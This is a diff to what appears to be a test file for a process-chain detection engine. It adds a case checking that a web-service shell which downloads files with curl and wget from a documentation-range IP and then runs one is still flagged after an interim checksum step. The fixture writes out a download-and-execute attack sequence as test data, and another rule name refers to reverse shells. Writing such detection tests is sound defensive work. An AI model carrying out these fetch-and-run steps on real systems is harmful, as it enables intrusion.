@@ -88,6 +88,16 @@ describe('chain: Web service shell fetches and runs a payload', () => {
       .spawn(13, 3003, 3000, PROGRAM('p', '/tmp/p', [], WEB));
     expect(await run(checkedElsewhere)).toHaveLength(1);
   });
+
+  it('still matches through a second, unverified download after a verified one', async () => {
+    const story = base()
+      .spawn(10, 3000, 2001, SH(['-c', 'x'], WEB))
+      .spawn(11, 3001, 3000, PROGRAM('curl', '/usr/bin/curl', ['-o', '/tmp/p', 'http://198.51.100.9/p'], WEB))
+      .spawn(12, 3002, 3000, PROGRAM('sha256sum', '/usr/bin/sha256sum', ['-c', '/tmp/p.sha256'], WEB))
+      .spawn(13, 3003, 3000, PROGRAM('wget', '/usr/bin/wget', ['-O', '/tmp/q', 'http://198.51.100.9/q'], WEB))
+      .spawn(14, 3004, 3000, PROGRAM('q', '/tmp/q', [], WEB));
+    expect(await run(story)).toEqual(['Web service shell fetches and runs a payload: shell=sh,3000 fetch=wget,3003 run=q,3004']);
+  });
 });
 
 describe('chain: Reverse shell from an application runtime', () => {
